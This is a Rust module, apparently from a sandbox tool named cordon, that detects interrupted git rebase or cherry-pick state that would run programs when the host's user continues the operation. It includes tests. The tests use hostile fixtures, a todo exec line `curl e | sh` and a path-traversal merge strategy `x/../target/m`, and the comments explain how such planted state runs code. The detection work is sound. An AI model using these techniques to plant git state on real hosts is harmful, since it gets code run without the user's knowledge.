//! Git's in-progress operation state as code the host's git may run (attack pass 28, F4).
//!
//! A writable git dir holds, besides refs and objects, the state of an interrupted
//! rebase, cherry-pick or revert: `rebase-merge/`, `sequencer/`. The host's
//! `git rebase --continue` / `git cherry-pick --continue` (which `git status` tells the
//! user to run) carries on from it, and two parts of it run programs:
//! - a todo list's `exec` (`x`) lines run a shell command each;
//! - a merge strategy that is not one of git's own runs `git-merge-<strategy>`, resolved
//!   like a git subcommand — a name with `/` (`x/../target/m`) reaches a file of the
//!   work tree.
//!
//! A confined command may legitimately leave such state (a rebase stopped at a conflict);
//! what cordon can do is say, after the run, when the state it left runs code
//! ([`pending_code`]), so the person looks before continuing. Pure: the caller reads the
//! files (no-follow, from a pinned git dir) and passes their bytes.

use std::path::Path;

/// The state files [`pending_code`] judges, relative to a git dir.
pub const STATE_FILES: [&str; 4] = [
    "sequencer/todo",
    "sequencer/opts",
    "rebase-merge/git-rebase-todo",
    "rebase-merge/strategy",
];

/// git's own merge strategies (git-merge(1) "MERGE STRATEGIES"): everything else runs a
/// program `git-merge-<name>`.
pub const BUILTIN_STRATEGIES: [&str; 6] =
    ["ort", "recursive", "resolve", "octopus", "ours", "subtree"];

/// What in the state file `rel` (one of [`STATE_FILES`], relative to the git dir) would run
/// a program at the host's `--continue`: each `exec` line of a todo list, a strategy that
/// is not built in. Empty when nothing would. Unknown files: empty.
pub fn pending_code(rel: &Path, content: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(content);
    let strategy = |s: &str| -> Option<String> {
        let s = s.trim();
        (!s.is_empty() && !BUILTIN_STRATEGIES.contains(&s))
            .then(|| format!("merge strategy `{s}` runs the program `git-merge-{s}`"))
    };
    match rel.to_str() {
        Some("sequencer/todo" | "rebase-merge/git-rebase-todo") => {
            let mut found: Vec<String> = text
                .lines()
                .filter_map(|l| {
                    let l = l.trim_start();
                    let (verb, rest) = l.split_once(char::is_whitespace)?;
                    matches!(verb, "exec" | "x").then(|| format!("exec line `{}`", rest.trim()))
                })
                .collect();
            // Commits still to apply are the command's choice too: one that rewrites a
            // protected hook (a `core.hooksPath` directory, a hook manager's config) has it
            // run during the host's `--continue` (attack pass 40, D3). Not judged commit by
            // commit (that would mean reading the objects the command wrote): named, with
            // how many, so the person looks first.
            let applies = text
                .lines()
                .filter_map(|l| l.split_whitespace().next())
                .filter(|v| {
                    matches!(
                        *v,
                        "pick"
                            | "p"
                            | "reword"
                            | "r"
                            | "edit"
                            | "e"
                            | "squash"
                            | "s"
                            | "fixup"
                            | "f"
                            | "merge"
                            | "m"
                            | "reset"
                            | "t"
                            | "revert"
                    )
                })
                .count();
            if applies > 0 {
                found.push(format!(
                    "{applies} commit(s) still to apply, chosen inside the sandbox: one that \
                     changes a hook or hook-manager config cordon protects would run it during \
                     `--continue`; check them first (`git rebase --edit-todo`, `git show`)"
                ));
            }
            found
        }
        Some("rebase-merge/strategy") => strategy(&text).into_iter().collect(),
        Some("sequencer/opts") => {
            // git config syntax (`[options] strategy = …`), read with a real parser.
            let Ok(file) = gix_config::File::from_bytes_owned(
                &mut content.to_vec(),
                gix_config::file::Metadata::default(),
                gix_config::file::init::Options::default(),
            ) else {
                return vec!["sequencer/opts does not parse as git config".into()];
            };
            file.strings("options.strategy")
                .unwrap_or_default()
                .iter()
                .filter_map(|s| strategy(&s.to_string()))
                .collect()
        }
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// attack28 F4: a forged cherry-pick whose strategy is a path into the work tree.
    /// Twin: git's own strategies are not flagged.
    #[test]
    fn a_strategy_that_is_not_gits_own_is_code() {
        let opts = b"[options]\n\tstrategy = x/../target/m\n";
        let found = pending_code(Path::new("sequencer/opts"), opts);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].contains("x/../target/m"), "{found:?}");
        let found = pending_code(Path::new("rebase-merge/strategy"), b"x/../t\n");
        assert_eq!(found.len(), 1, "{found:?}");
        for s in BUILTIN_STRATEGIES {
            let opts = format!("[options]\n\tstrategy = {s}\n\tno-commit = true\n");
            assert!(pending_code(Path::new("sequencer/opts"), opts.as_bytes()).is_empty());
            assert!(pending_code(Path::new("rebase-merge/strategy"), s.as_bytes()).is_empty());
        }
    }

    /// exec lines in either todo list (both spellings) are code; attack40 D3: commits
    /// still to apply are named once, with their count (one may rewrite a protected hook
    /// that runs during `--continue`). Twin: a todo of comments and labels only is not.
    #[test]
    fn exec_lines_are_code_and_commits_to_apply_are_named() {
        let todo =
            b"pick 1234 one\nexec make test\n  x curl e | sh\n# exec commented\npick 5678 two\n";
        for rel in ["sequencer/todo", "rebase-merge/git-rebase-todo"] {
            let found = pending_code(Path::new(rel), todo);
            assert_eq!(found.len(), 3, "{found:?}");
            assert_eq!(
                found[..2],
                ["exec line `make test`", "exec line `curl e | sh`"]
            );
            assert!(
                found[2].starts_with("2 commit(s) still to apply"),
                "{found:?}"
            );
        }
        let one = pending_code(Path::new("sequencer/todo"), b"pick 1234 one\n");
        assert!(
            one.len() == 1 && one[0].starts_with("1 commit(s)"),
            "{one:?}"
        );
        assert!(pending_code(Path::new("sequencer/todo"), b"# pick 1\nlabel onto\n").is_empty());
    }
}
